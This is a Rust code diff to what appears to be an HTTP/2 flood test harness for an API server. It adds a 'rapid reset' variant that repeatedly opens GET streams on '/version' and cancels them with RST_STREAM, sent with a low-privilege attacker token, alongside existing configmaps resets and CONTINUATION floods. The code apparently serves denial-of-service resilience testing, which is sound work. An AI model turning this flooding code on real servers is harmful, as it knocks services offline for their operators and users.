@@ -21,6 +21,7 @@ use crate::{
         report::Told,
     },
     http::Listener,
+    subject::ATTACKER,
 };
 
 /// Connections of a flood.
@@ -44,6 +45,15 @@ enum Frame {
     EmptyContinuation,
     WindowUpdate,
     Reset,
+    /// The same of requests that a replica hands on.
+    HandedOnReset,
+}
+
+impl Frame {
+    /// Whether each batch begins new streams.
+    fn begins_streams(self) -> bool {
+        matches!(self, Self::Reset | Self::HandedOnReset)
+    }
 }
 
 impl Frame {
@@ -68,9 +78,10 @@ impl Frame {
                 }
                 frames::frame(&mut one, frames::CONTINUATION, 0, 1, &[]);
             }
-            Self::Reset => {
+            Self::Reset | Self::HandedOnReset => {
+                let path = if self == Self::Reset { "/api/v1/configmaps" } else { "/version" };
                 for _ in 0..RESETS {
-                    let stream = raw.request(&mut out, "GET", "/api/v1/configmaps", &[], true);
+                    let stream = raw.request(&mut out, "GET", path, &[], true);
                     frames::frame(&mut out, frames::RST_STREAM, 0, stream, &8_u32.to_be_bytes());
                 }
                 return out;
@@ -106,6 +117,11 @@ pub(super) async fn resets(target: &Target, told: &mut Told) {
     flood(&target.plain, Frame::Reset, CONNECTIONS, target.time, told, "resets").await;
 }
 
+/// Rapid resets of requests that a replica hands on, by somebody who has no rights worth mentioning.
+pub(super) async fn handed_on(target: &Target, told: &mut Told) {
+    flood(&target.secure.with_token(ATTACKER), Frame::HandedOnReset, CONNECTIONS, target.time, told, "resets").await;
+}
+
 /// As fast as they go; who is thrown out comes back. Tells MiB sent and connections opened.
 async fn flood(listener: &Listener, frame: Frame, connections: usize, time: Duration, told: &mut Told, name: &'static str) {
     let (end, sent, opened) = (Instant::now() + time, AtomicUsize::new(0), AtomicUsize::new(0));
@@ -120,7 +136,7 @@ async fn flood(listener: &Listener, frame: Frame, connections: usize, time: Dura
                 while good && Instant::now() < end && !raw.seen().is_gone() {
                     good = raw.send(&batch).await.is_ok();
                     sent.fetch_add(batch.len(), Ordering::Relaxed);
-                    if frame == Frame::Reset {
+                    if frame.begins_streams() {
                         batch = frame.batch(&raw, false);
                     }
                 }
